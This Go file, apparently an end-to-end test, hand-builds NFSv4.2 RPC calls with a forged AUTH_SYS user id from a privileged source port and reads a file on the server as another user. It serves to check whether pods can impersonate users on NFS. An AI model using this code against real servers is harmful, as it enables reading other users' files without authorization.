package e2e

import (
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"slices"
	"strconv"
	"strings"
	"syscall"
)

// forger speaks NFSv4.2 (RFC 8881) and names a user id of its choice, which the server
// believes (AUTH_SYS, RFC 5531). It needs no right but a connection.
type forger struct {
	conn net.Conn
	uid  uint32
	xid  uint32
}

// forges connects from a port below 1024, as servers ask of their clients: programs of pods
// can have one, for container runtimes take the bound on ports away in their networks.
func forges(server string, uid int) (*forger, error) {
	for port := 1023; port > 512; port-- {
		conn, err := (&net.Dialer{LocalAddr: &net.TCPAddr{Port: port}}).Dial("tcp", server)
		if errors.Is(err, syscall.EADDRINUSE) {
			continue
		}
		return &forger{conn: conn, uid: uint32(uid)}, err
	}
	return nil, errors.New("no port is free")
}

// words are numbers as XDR has them (RFC 4506).
func words(all ...uint32) (b []byte) {
	for _, w := range all {
		b = binary.BigEndian.AppendUint32(b, w)
	}
	return b
}

func opaque(text string) []byte {
	b := append(words(uint32(len(text))), text...)
	return append(b, make([]byte, -len(text)&3)...)
}

// compound calls operations, and returns what the server says of them.
func (f *forger) compound(operations ...[]byte) ([]byte, error) {
	f.xid++
	credential := slices.Concat(words(0), opaque("pod"), words(f.uid, f.uid, 0))
	call := slices.Concat(words(f.xid, 0, 2, 100003, 4, 1, 1), opaque(string(credential)), words(0, 0), opaque(""),
		words(2, uint32(len(operations))), slices.Concat(operations...))
	if _, err := f.conn.Write(append(words(1<<31|uint32(len(call))), call...)); err != nil {
		return nil, err
	}
	var head [4]byte
	if _, err := io.ReadFull(f.conn, head[:]); err != nil {
		return nil, err
	}
	reply := make([]byte, binary.BigEndian.Uint32(head[:])&^(1<<31))
	if _, err := io.ReadFull(f.conn, reply); err != nil {
		return nil, err
	}
	const begins = 9 * 4 // xid, reply, accepted, no verifier (2), success, status, no tag, the number of results
	if len(reply) < begins || binary.BigEndian.Uint32(reply[8:]) != 0 || binary.BigEndian.Uint32(reply[20:]) != 0 {
		return nil, fmt.Errorf("the server refused the call: %x", reply)
	}
	if status := binary.BigEndian.Uint32(reply[24:]); status != 0 {
		return nil, fmt.Errorf("the server's status is %d", status)
	}
	return reply[begins:], nil
}

// read returns the begin of a file below the export.
func (f *forger) read(path string) (string, error) {
	// EXCHANGE_ID, CREATE_SESSION with two channels, and in the session the file itself.
	// The name of a client belongs to who took it first.
	answer, err := f.compound(slices.Concat(words(42, 0, 1), opaque(fmt.Sprint("forger of ", f.uid)), words(0, 0, 0)))
	if err != nil {
		return "", err
	}
	client, sequence := answer[8:16], answer[16:20]
	channel := words(0, 4096, 4096, 1024, 16, 1, 0)
	if answer, err = f.compound(slices.Concat(words(43), client, sequence, words(0), channel, channel, words(1, 1, 0))); err != nil {
		return "", err
	}
	session := answer[8:24]
	operations := [][]byte{slices.Concat(words(53), session, words(1, 0, 0, 0)), words(24)} // SEQUENCE, PUTROOTFH
	names := strings.Split(path, "/")
	for _, name := range names {
		operations = append(operations, slices.Concat(words(15), opaque(name))) // LOOKUP
	}
	const readable = 1024
	operations = append(operations, words(25, 0, 0, 0, 0, 0, 0, readable)) // READ, with no state
	if answer, err = f.compound(operations...); err != nil {
		return "", err
	}
	answer = answer[8+36+8+8*len(names)+12:] // what SEQUENCE, PUTROOTFH and each LOOKUP say; READ, its status, whether that is all
	length := binary.BigEndian.Uint32(answer)
	return string(answer[4 : 4+length]), nil
}

// podForges reads a file of the server under another user id than its own.
func podForges(path string, args []string) error {
	uid, err := strconv.Atoi(args[1])
	if err != nil {
		return err
	}
	f, err := forges(args[0], uid)
	if err != nil {
		return err
	}
	defer f.conn.Close()
	text, err := f.read(path)
	if err == nil {
		fmt.Print(text)
	}
	return err
}
